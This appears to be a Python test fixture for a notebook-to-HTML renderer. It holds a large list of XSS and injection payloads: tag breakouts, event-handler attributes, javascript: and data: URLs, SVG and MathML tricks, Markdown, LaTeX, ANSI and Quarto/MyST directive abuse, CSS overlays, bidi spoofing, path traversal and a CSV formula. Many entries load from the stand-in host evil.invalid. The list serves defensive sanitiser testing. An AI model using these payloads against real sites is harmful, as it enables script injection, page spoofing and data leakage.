"""Payloads of our own: what a notebook could hold to get out of its place in a page."""

SCRIPT = "window.xss=1"
_OUT = "<img src=x onerror=xss()>"

#: Ends of every element and text mode the page is made of.
BREAKOUTS = [
    f"{end}{_OUT}"
    for end in (
        "</pre>", "</code></pre>", "</section>", "</div></div></section></main>", "</main></div></body></html>", "</title>",
        "</style>", "</script>", "</textarea>", "</svg>", "</math>", "</iframe>", "</noscript>", "</template>", "</select>",
        "</option></select>", "</xmp>", "</plaintext>", "</details>", "</summary></details>", "</figure>", "</span>", "</a>",
        "</table>", "</td></tr></table>", "</caption></table>", "</h1></header>", "</p>", "</li></ul></section>", "-->", "--!>",
        "]]>", "?>", "%>", "*/", "\"></a>", "'></a>", "\" x=\"></a>", "\">", "'>", "`>", "\\\">", "&quot;>", "&gt;", "{{/cells}}",
        "</main><main id=notebook>", "</section><section class=\"cell\" id=\"cell-1\">", "</body><body onload=xss()>",
    )
]

#: Attributes that would run, once inside a tag.
ATTRIBUTES = [
    "x\" onmouseover=xss() autofocus onfocus=xss() tabindex=1 \"", "x' onmouseover=xss() autofocus onfocus=xss() '",
    "x onmouseover=xss() ", "x` onmouseover=xss() `", "\" style=\"position:fixed;inset:0\" x=\"", "\" id=\"cell-1", "' id='notebook",
    "\" onanimationstart=xss() style=\"animation:x\" \"", "\tonclick=xss()\t", "\"/onload=xss()/\"", "x\" srcdoc=\"<script>xss()</script>",
    "\" href=\"javascript:xss()\" \"", "language-x\" onclick=\"xss()", "x\n\" onclick=\"xss()\n", "x\u2028onclick=xss()",
]

#: Addresses, as link targets, picture sources, file names and plain text.
ADDRESSES = [
    "javascript:xss()", "JaVaScRiPt:xss()", " javascript:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()",
    "javascript&colon;xss()", "javascript&#58;xss()", "&#106;avascript:xss()", "javascript%3Axss()", "javascript://%0axss()",
    "vbscript:xss()", "livescript:xss()", "data:text/html,<script>parent.xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>", "blob:http://evil.invalid/1", "file:///etc/passwd",
    "//evil.invalid/x.png", "\\\\evil.invalid\\x.png", "/\\evil.invalid/x.png", "https://evil.invalid/x.png", "http:evil.invalid/x.png",
    "https:/evil.invalid/x.png", "///evil.invalid/x.png", "\thttps://evil.invalid/x.png", "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    "..\\..\\etc\\passwd", "attachment:../../x.png", "attachment:\"onerror=xss()", "view-source:javascript:xss()", "jar:https://evil.invalid!/",
    "filesystem:http://evil.invalid/x", "about:blank", "ws://evil.invalid/", "ftp://evil.invalid/x", "mailto:a?body=<script>xss()</script>",
    "https://user:pass@evil.invalid/\"onerror=\"xss()", "#\"onclick=\"xss()", "?x=\"><script>xss()</script>",
]

#: Whole elements that run, ask or take over the page.
ELEMENTS = [
    "<script>xss()</script>", "<script src=https://evil.invalid/x.js></script>", "<script type=module>xss()</script>", "<ScRiPt>xss()</sCrIpT>",
    "<script\n>xss()</script\n>", "<script/x>xss()</script>", "<<script>script>xss()</script>", "<scr<script>ipt>xss()</script>",
    "<svg><script>xss()</script></svg>", "<svg onload=xss()>", "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a></svg>", "<svg><use href=https://evil.invalid/x.svg#x></use></svg>",
    "<svg><set attributeName=href to=javascript:xss()>", "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
    "<svg><image href=https://evil.invalid/x.png></svg>", "<svg><style>@import 'https://evil.invalid/x.css';</style></svg>",
    "<!DOCTYPE svg [<!ENTITY x '<script>xss()</script>'>]><svg>&x;</svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
    "<math><maction actiontype=statusline#https://evil.invalid xlink:href=javascript:xss()>x</maction></math>",
    "<math><mi xlink:href=javascript:xss() href=javascript:xss()>x</mi></math>", "<math><mtext></math><img src=x onerror=xss()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>", "<img src=x onerror=xss()>",
    "<img src=https://evil.invalid/x.png>", "<img srcset='https://evil.invalid/x.png 1x'>", "<picture><source srcset=https://evil.invalid/x.png><img></picture>",
    "<img/src=x/onerror=xss()>", "<img src=x:x onerror=xss()//", "<image src=x onerror=xss()>", "<input onfocus=xss() autofocus>",
    "<input type=image src=https://evil.invalid/x.png>", "<video poster=https://evil.invalid/x.png src=https://evil.invalid/x.mp4 onerror=xss()></video>",
    "<audio src=https://evil.invalid/x.mp3 onerror=xss() autoplay></audio>", "<iframe src=javascript:parent.xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>", "<iframe src=https://evil.invalid/></iframe>", "<frameset onload=xss()><frame src=javascript:xss()>",
    "<object data=javascript:xss()></object>", "<object data=https://evil.invalid/x.swf></object>", "<embed src=javascript:xss()>", "<applet code=x archive=https://evil.invalid/x.jar></applet>",
    "<base href=https://evil.invalid/>", "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=preload as=image href=https://evil.invalid/x.png>",
    "<link rel=dns-prefetch href=//evil.invalid>", "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "<style>body{display:none}</style>", "<style>@import url(https://evil.invalid/x.css);</style>", "<style>*{background:url(https://evil.invalid/x.png)}</style>",
    "<div style='background:url(https://evil.invalid/x.png)'>x</div>", "<div style='position:fixed;inset:0;z-index:99'>x</div>",
    "<div style='width:expression(xss())'>x</div>", "<table background=https://evil.invalid/x.png><tr><td background=https://evil.invalid/y.png>x</table>",
    "<body background=https://evil.invalid/x.png onload=xss()>", "<form action=https://evil.invalid/><button formaction=javascript:xss()>x</button></form>",
    "<form id=notebook><input name=attributes><input name=parentNode></form>", "<a id=cell-1 name=cell-2 href=#>x</a>", "<p id=notebook>x</p><p id=sg-code>y</p>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=xss()>y</div>", "<dialog open onclose=xss()>x</dialog>",
    "<details open ontoggle=xss()><summary>x</summary></details>", "<marquee onstart=xss()>x</marquee>", "<isindex action=javascript:xss()>",
    "<template><script>xss()</script></template>", "<template shadowrootmode=open><script>xss()</script></template>",
    "<x-y onclick=xss()>x</x-y>", "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">", "<plaintext>", "<xmp><img src=x onerror=xss()></xmp>",
    "<textarea><img title=\"</textarea><img src=x onerror=xss()>\">", "<title><img title=\"</title><img src=x onerror=xss()>\">", "<!--><img src=x onerror=xss()>-->",
    "<!-- --!><img src=x onerror=xss()> -->", "<![CDATA[<img src=x onerror=xss()>]]>", "<?xml-stylesheet href='javascript:xss()'?>", "<!ELEMENT x ANY>",
    "<table><tr><td></table></div></div></section></main>", "<h1>second</h1>", "<h1 id=notebook>x</h1><main>y</main>", "<ul><li></section></li></ul>",
    "<p><table><p><svg><p>x", "<select><option></select></section>", "<b><i><a href=x><p><b><i>" * 12, "<div>" * 200 + "</section>", "</div>" * 60 + "x",
]

#: What Markdown, mathematics and terminals read as more than text.
LANGUAGES = [
    "[x](javascript:xss())", "[x](<javascript:xss()>)", "[x]: javascript:xss()\n\n[x]", "![x](https://evil.invalid/x.png)", "![x\" onerror=\"xss()](y)",
    "[x](y \"a\\\" onclick=\\\"xss()\")", "<javascript:xss()>", "<https://evil.invalid/\"onclick=\"xss()>", "https://evil.invalid/<script>xss()</script>",
    "```x\" onclick=\"xss()\nx\n```", "~~~ <script>xss()</script>\nx\n~~~", "`</code><img src=x onerror=xss()>`", "# <img src=x onerror=xss()>",
    "# a\n# a\n# a-1\n# a", "# notebook\n\n# cell-1\n\n# sg-code", "[^1]\n\n[^1]: <script>xss()</script>", "[^\"><img>]\n\n[^\"><img>]: x",
    "| a | b |\n|---|---|\n| </table><img src=x onerror=xss()> | c |", "- [ ] <input type=checkbox onclick=xss()>", "---\ntitle: </title><script>xss()</script>\n---\n",
    "$\\href{javascript:xss()}{x}$", "$$\\text{</math><img src=x onerror=xss()>}$$", "$\\url{javascript:xss()}$", "$\\includegraphics{https://evil.invalid/x.png}$",
    "$\\htmlStyle{position:fixed}{x}\\htmlId{notebook}{y}\\class{cell}{z}\\cssId{cell-1}{w}\\style{background:url(https://evil.invalid)}{v}$",
    "$\\unicode{x3c}script\\unicode{x3e}$", "$\\color{red;background:url(https://evil.invalid)}{x}$", "$\\def\\x{\\x\\x}\\x$", "$a<b>c</b>$", "\\begin{equation}</math><script>xss()</script>\\tag{<b>}\\end{equation}",
    "$$\\label{\"><img src=x onerror=xss()>}\\ref{\"><img>}$$", "\x1b]8;;javascript:xss()\x1b\\x\x1b]8;;\x1b\\", "\x1b]8;;https://evil.invalid/\"onclick=\"xss()\x07x\x1b]8;;\x07",
    "\x1b[38;2;\"onclick=xss();1mx\x1b[0m", "\x1b[31m<script>xss()</script>\x1b[0m", "\x1b]0;</title><script>xss()</script>\x07x", "\x1b[1;31;4mx", "a\rb\x08\x08<img src=x onerror=xss()>",
    "\x1b[999999999C\x1b[999999999Bx", "{{title}} {{{cells}}} {{>partial}}", "${xss()} #{xss()} <%= xss() %> {% raw %}", "\x00<script>xss()</script>", "\ufeff<script>xss()</script>",
    "\u202e<script>xss()</script>", "＜script＞xss()＜/script＞", "\ud83d\ude00 \u0000 \ufffd \uffff", "=cmd|' /C calc'!A0", "'\"<>&`\\/=\n\r\t", "%3Cscript%3Exss()%3C/script%3E",
    "##<img src=x onerror=xss()>##", "#Title<script>xss()</script>", "a\n###[x](javascript:xss())###\n##<a href=javascript:xss()>x</a>",
    "|a||b|\n|---||---|\n|</td></table><img src=x onerror=xss()>||<script>xss()</script>|", "- a\n<br onload=xss()>\n- b\n<a href=javascript:xss()>\n- c",
    "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
]

#: What paints over its surroundings, or pushes them out of sight, with nothing but styles and mathematics that are allowed.
_BIG = "width:4000px;min-height:4000px;background:#fff"
OVERLAYS = [
    "<span style='padding:200px;background:#fff'>x</span>", "<a href='https://evil.invalid/' style='padding:200px;border:20px solid red'>x</a>",
    "<span style='padding:200px;background:#fff'>" * 10 + "x", f"<div style='{_BIG}'>x</div>", f"<div dir=rtl><div style='{_BIG}'>x</div></div>",
    "<div style='margin-left:200px'>" * 10 + "<div style='background:#fff;width:1000px'>x", f"<pre style='{_BIG}'>x</pre>", f"<hr style='{_BIG};margin:200px'>",
    f"<img style='max-width:4000px;{_BIG}' src='data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs='>",
    f"<progress style='{_BIG}'></progress>", f"<details open style='{_BIG}'><summary>x</summary>y</details>", f"<table style='{_BIG}'><td style='{_BIG};padding:200px'>x</table>",
    "<sup style='font-size:400%'>" * 6 + "x", "<ruby>x<rt style='font-size:400%;padding:200px;background:#fff'>y</rt></ruby>", "<ruby>x<rt>" * 40 + "y",
    "<div style='margin:-9999px;position:fixed;inset:0;z-index:9;float:left;transform:scale(99);opacity:0;line-height:0;text-indent:-999px;letter-spacing:99px'>x</div>",
    f"<style>.x{{{_BIG};margin:-9999px;position:fixed;inset:0;z-index:9;float:left}}</style><div class=x>x</div>",
    f"<style>.x div,div.x>b,.x:hover{{{_BIG};padding:200px;margin-left:200px}}</style><div class=x><div><div><b>x</b></div></div></div>",
    "a" + "\u0300\u0301\u0302" * 200 + "b" + "\u0316\u0317\u0323" * 200, "$\\rule{1e9em}{1e9em}\\rule{100em}{100em}$", "$\\smash{\\rule{90em}{90em}}$",
    "$\\raisebox{60em}{\\rule{90em}{50em}}$", "$\\llap{\\rule{90em}{90em}}$", "$\\hspace{-90em}\\smash{\\href{https://evil.invalid/}{\\rule{90em}{90em}}}$",
    "$\\Huge\\smash{\\text{\\Huge " + "M" * 100 + "}}$", "$$\\raisebox{-60em}{\\colorbox{white}{\\rule{90em}{50em}}}$$",
]

#: What poses as a part of the page, or turns text around.
POSES = [
    "<p class='notice status status-succeeded facts page-header'>succeeded</p>", "<header class=page-header><h1>x</h1><nav class='page-nav toc'><a class=download href=x>Download</a></nav></header>",
    "<aside class=notices>x</aside><footer class=page-footer>y</footer>", "<input type=checkbox id=sg-code class=code-switch checked><label for=sg-code>x</label>",
    "<link rel=icon href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">", "<link rel='shortcut icon' href=x.svg>", "<svg><link rel=icon href=x></svg>",
    "a\u202eb\u202dc", "\u2067x\u2066y\u2068z", "\u2069\u202c\u2069", "a\u200b\u200d\ufeff\u2060b", "report\u202efdp.ipynb", "p\u0430ypal", "<bdo dir=rtl>x", "<p dir=rtl lang=ar>x",
    "<div contenteditable tabindex=1 accesskey=x autofocus draggable=true inert popover is=x-y slot=z part=p>x</div>", "<a href=x target=report ping=https://evil.invalid download=x>x</a>",
    "<map name=m><area href=javascript:xss() shape=default></map><img usemap=#m src=x>", "<fencedframe></fencedframe><portal src=https://evil.invalid></portal>",
    "<p id=a>x</p><p id=a>y</p><a href=#a>z</a>", "<style>#a:hover{background:url(https://evil.invalid/x)} #a[value^=x]{cursor:url(https://evil.invalid/y),auto} body>header{display:none}</style><p id=a>x</p>",
    "<style>.x{background:url(https://evil.invalid/x)} .cell,.notice,.page-header,.x~*,.x+*,:root .x{display:none;color:#fff} .x{display:none}</style><p class='x cell notice page-header'>x</p><p>y</p>",
    "<p style='background:image-set(\"https://evil.invalid/x\" 1x);list-style:url(https://evil.invalid/y);cursor:url(https://evil.invalid/z);content:url(https://evil.invalid/w)'>x</p>",
    "__proto__", "constructor", "toString", "</script>\u2028\u2029<!--<script>", "nan", "1e999",
]

#: Features of browsers that came late: what they open, group, cover, load or run without a script.
LATE = [
    "<div style='anchor-name:--a;position-anchor:--a;position-area:top left;position:fixed;view-transition-name:root;interactivity:inert;animation-timeline:scroll();translate:0 -900px'>x</div>",
    "<div style='background:cross-fade(url(https://evil.invalid/a),url(https://evil.invalid/b));width:attr(x px);color:\\75rl(https://evil.invalid/c);background:\\75 rl(https://evil.invalid/d)'>x</div>",
    "<style>@font-face{font-family:f;src:url(https://evil.invalid/f)}@namespace url(https://evil.invalid/);@import 'https://evil.invalid/c';@view-transition{navigation:auto}@property --x{syntax:'*';inherits:false}#a{font-family:f}</style><p id=a>x",
    "<style>#a:target{display:none}#a:has(~ *){display:none}:has(#a) header{display:none}#a:not(#b),body{display:none}#a{}}body{display:none}</style><p id=a>x",
    "<style>#a{color:red;}/*</style><style>*/body{display:none}</style>", "<style>#a{color:red}<!--</style><style>-->body{display:none}</style>",
    "<style>#a td{color:red}</style>" * 40, "<p style=\"--ink:url(https://evil.invalid/x);--bg:red\" class='ansi-ink callout direction-control'>x</p>",
    "<div popover=manual id=x>y</div><button commandfor=x command=show-popover>z</button><button command=show-modal commandfor=d>x</button><dialog id=d closedby=none open>y</dialog>",
    "<details name=g open><summary>x</summary>y</details><details name=g open><summary>z</summary>w</details>",
    "<div><template shadowrootmode=open shadowrootclonable><style>:host{position:fixed;inset:0}</style><slot></slot><script>xss()</script></template>x</div>",
    "<math><maction actiontype=toggle selection=2><mi>a</mi><mi>b</mi></maction><mrow href=javascript:xss() xlink:href=javascript:xss()><mi>c</mi></mrow><semantics><annotation-xml encoding=application/xhtml+xml><script>xss()</script></annotation-xml></semantics></math>",
    "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=xss()></option></select></section>", "<fencedframe mode=opaque-ads config=x></fencedframe><search><form action=https://evil.invalid>x</form></search><model src=https://evil.invalid/x.usdz></model>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.invalid/\"]}]}</script><script type=importmap>{\"imports\":{\"x\":\"https://evil.invalid/x.js\"}}</script><script type=webbundle>{\"source\":\"https://evil.invalid/x\"}</script>",
    "<link rel=expect href=#never blocking=render><link rel=preconnect href=https://evil.invalid><link rel=prefetch href=https://evil.invalid/x><link rel=modulepreload href=https://evil.invalid/x><link rel=manifest href=https://evil.invalid/m><link rel=compression-dictionary href=https://evil.invalid/d>",
    "<link rel=preload as=image imagesrcset='https://evil.invalid/x 1x' fetchpriority=high><img srcset='https://evil.invalid/y 1x,x 2x' sizes=1px fetchpriority=high loading=eager attributionsrc=https://evil.invalid/z lowsrc=https://evil.invalid/w dynsrc=https://evil.invalid/v>",
    "<a href=x attributionsrc=https://evil.invalid/ interestfor=x hreflang=x referrerpolicy=unsafe-url target=_parent>x</a><area ping=https://evil.invalid href=x>",
    "<meta name=referrer content=unsafe-url><meta name=viewport content=width=9999><meta name=color-scheme content=dark><meta http-equiv=accept-ch content=x><meta http-equiv=origin-trial content=x><meta http-equiv=default-style content=x><meta http-equiv=set-cookie content=a=b>",
    "<permission type=geolocation></permission><geolocation autolocate></geolocation><usermedia></usermedia><install></install>", "<svg><image href='data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;xss()&quot;/>'></image><use href='data:image/svg+xml,<svg id=x xmlns=&quot;http://www.w3.org/2000/svg&quot;><script>xss()</script></svg>#x'></use></svg>",
    "<svg viewBox='0 0 9 9'><a href=x><animate attributeName=href values=javascript:xss() /><text y=9>x</text></a><set attributeName=onclick to=xss() /><animate attributeName=href to=javascript:xss() begin=0s /></svg>",
    "<svg viewBox='0 0 9 9'><style>@import 'https://evil.invalid/c';rect{fill:url(https://evil.invalid/x#a)}</style><rect width=9 height=9 /><feImage href=https://evil.invalid/y /><?xml-stylesheet href='https://evil.invalid/z'?></svg>",
    "<input type=checkbox switch id=sg-code checked><label for=sg-code>x</label><label for=cell-1>y</label><output for=notebook>z</output>", "<h1 headingoffset=2>x</h1><div headingoffset=1 headingreset><h1>y</h1></div>", "<bgsound src=https://evil.invalid/x><layer src=https://evil.invalid/y></layer><menuitem onclick=xss()>x</menuitem><xml>y</xml>",
    "<img src='data:image/svg+xml;charset=utf-16,%00<%00s'><img src='data:text/html,<script>xss()</script>'><img src='data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot;><foreignObject><iframe xmlns=&quot;http://www.w3.org/1999/xhtml&quot; src=&quot;https://evil.invalid/&quot;/></foreignObject></svg>'>",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-", "\x1b$B<script>xss()</script>\x1b(B", "\x1b(J\\\"><script>xss()</script>", "\ud800<script>xss()</script>\udfff", "\u2028\u2029\x85\x0b\x0c<script>xss()</script>", "\ufffe\uffff\U0010ffff\ue000<img src=x onerror=xss()>",
    "\u0338>\u0338<script>xss()</script>", "<\u0338script>xss()</script>", "\u212aey=\u017ftyle \u0130 \u1e9e <\u017fcript>xss()</\u017fcript>",
]

#: Notes, figures, references and options of Quarto, MyST and GitHub that carry or name what they must not.
DIRECTIVES = [
    f"{fence}{{{name}}} {title}\n{options}\n{body}\n{fence}"
    for fence, name, title, options, body in [
        (":::", "note", _OUT, ":class: page-header toc notices cell\n:name: notebook", "</aside></section>" + _OUT),
        ("```", "tip", "</summary>" + _OUT, ":class: dropdown\" onclick=\"xss()\n:name: cell-1", "</details></section>" + _OUT),
        ("```", "figure", "javascript:xss()", ":name: \"><img src=x onerror=xss()>\n:target: javascript:xss()\n:width: 99999999px\" onload=\"xss()\n:alt: \" onerror=\"xss()", "cap " + _OUT),
        ("```", "image", "https://evil.invalid/x.png", ":height: 99999999\n:align: fixed;inset:0\n:class: page-header", ""),
        ("```", "raw", "html", "", "<script>xss()</script>"), ("```", "include", "/etc/passwd", ":literal:", ""), ("```", "iframe", "https://evil.invalid/", ":width: 100%", ""),
        (":::", "card", _OUT, ":link: javascript:xss()\n:img-top: https://evil.invalid/x.png\n:class-card: page-header", "a\n^^^\nb\n+++\n" + _OUT),
        ("::::", "tab-set", "", "", ":::{tab-item} " + _OUT + "\n:sync: notebook\n:::"), ("```", "code-block", "python", ":caption: " + _OUT + "\n:name: sg-code\n:emphasize-lines: 1-99999999999", "x\n</code></pre>"),
        ("```", "list-table", "</caption>" + _OUT, ":header-rows: 99999999999999999999\n:widths: 1e99 2\n:name: notebook", "* - </table>" + _OUT + "\n  - b"),
        ("```", "math", "", ":label: \"><img src=x onerror=xss()>", "x</math><script>xss()</script>"), (":::", "_proto_", "__proto__", ":__proto__: x", "x"), ("```", "literalinclude", "../../../etc/passwd", "", ""),
        (":::", "margin", "", ":class: toc", "</aside>" + _OUT), ("```", "eval-rst", "", "", ".. raw:: html\n\n   <script>xss()</script>"), (":::", "prf:theorem", "</p>" + _OUT, ":label: notebook", _OUT),
    ]
] + [
    "::: {.callout-note #notebook .page-header title=\"</p><img src=x onerror=xss()>\" onclick=\"xss()\" style=\"position:fixed;inset:0\"}\n</aside></section>\n:::", "::: {#reports .toc}\n## x {#contents .page-header style=\"position:fixed\"}\n:::",
    "> [!WARNING]<img src=x onerror=xss()>\n> </blockquote></aside></section>", "::::::::::{note}\n:::{note}\n" * 15 + "x", "::: {layout=\"[[99999999,-1],[1]]\" layout-ncol=99999999999}\n![a](x)\n:::",
    "# x {#notebook}\n\n# y {#cell-1}\n\n# z {#sg-code}\n\n# w {#out-1-1}\n\n# v {#fn-1-1}\n\n# u {#eq-1}", "(notebook)=\n(cell-1)=\n(\"><img src=x onerror=xss()>)=\n# x\n\n{ref}`notebook` [](#cell-1) {ref}`</a><img src=x onerror=xss()> <notebook>`",
    "{ref}`x <javascript:xss()>` {doc}`javascript:xss()` {doc}`x <https://evil.invalid/>` {download}`x <file:///etc/passwd>` {numref}`%s%n%x</a> <a>` {abbr}`a (\" onclick=\"xss())` {term}`</a>` {eq}`</a>` {cite:p}`\"><img>` {raw}`<script>xss()</script>` {kbd}`</kbd></section>`",
    "@fig-<img src=x onerror=xss()> [@fig-a\" onclick=\"xss(); -@tbl-<b>] [-@\"><img src=x onerror=xss()>]", "![</figcaption></figure><img src=x onerror=xss()>](x.png){#fig-\"><img> width=\"9999999999px;position:fixed\" fig-alt=\"\" onload=\"xss()\" style=\"position:fixed\" onerror=xss() .page-header}",
    "![a](x){#fig-a}\n\n![b](x){#fig-a}\n\n: c {#tbl-a}\n\n$$a$$ {#eq-a}\n\n$$b\\label{eq-a}$$ (eq-a)\n\n# h {#fig-a}", "[x]{.page-header #notebook style=\"position:fixed;inset:0\" onclick=xss()} [y]{.mark .kbd .smallcaps .underline .notice} `z`{=html} `<script>xss()</script>`{=html}\n\n```{=html}\n<script>xss()</script>\n```",
    "{{< include /etc/passwd >}} {{< video https://evil.invalid/x >}} {{< embed x.ipynb#notebook >}} {{< meta title >}} {{< pagebreak >}} {{< env HOME >}} {{< lipsum 99999999 >}}", "| a |\n|---|\n| b |\n\n: </caption></table><img src=x onerror=xss()> {#tbl-\"><img> tbl-colwidths=\"[99999999,-1]\"}",
    "$$x$$ {#eq-\"><img src=x onerror=xss()>}\n\n$$\ny\n$$ (\"><img src=x onerror=xss()>)", "\\begin{equation}\\label{notebook}a\\end{equation} $$b\\tag{</math>}\\label{cell-1}$$ $\\ref{notebook}\\eqref{\"><img>}$", "#| label: fig-notebook\n#| fig-cap: </figcaption></figure></section><img src=x onerror=xss()>\n#| fig-alt: '\" onload=\"xss()'\nx",
    "#| label: lst-\"><img src=x onerror=xss()>\n#| lst-cap: </p><script>xss()</script>\n#| code-fold: show\n#| code-summary: </summary></details><img src=x onerror=xss()>\nx", "#| output: asis\n#| echo: fenced\n#| label: notebook\nprint('<script>xss()</script>')", "#| tbl-cap:\n#|   - </figcaption>\n#|   - [[[[{{{{\n#| label: tbl-cell-1\n#| fig-subcap: [\"a\", '<img src=x onerror=xss()>', {a: b}]\nx", "#|export\n#|hide\n#| __proto__: x\n</code></pre><script>xss()</script>",
]

#: What takes a browser minutes, or turns text beside it around.
ENDLESS = [
    "a" + "\u0301" * 2_000, "\U0001f469" + "\U0001f3fd" * 500, "\u1780" + "\u17d2\u1780" * 500, "\u2067" * 3_000 + "x", "\u2069\u202c" * 200 + "\u202e" + "abc", "a\u05d0" * 300,
    "access = 'user\u202e \u2066# admin\u2069 \u2066'", "\x1b[38;2;1;2;3m\x1b[48:2::300:-1:99999999999999999999mx\x1b[38;2;;;mx\x1b[38;5;999mx\x1b[38;2mx", "\x1b]8;id=\"><img src=x onerror=xss()>;https://evil.invalid/\x07x\x1b]8;;\x07", "\x1b]8;;https://evil.invalid/\u202e\x07\u202ex\x1b]8;;\x07",
]

PAYLOADS = BREAKOUTS + ATTRIBUTES + ADDRESSES + ELEMENTS + LANGUAGES + OVERLAYS + POSES + LATE + DIRECTIVES + ENDLESS
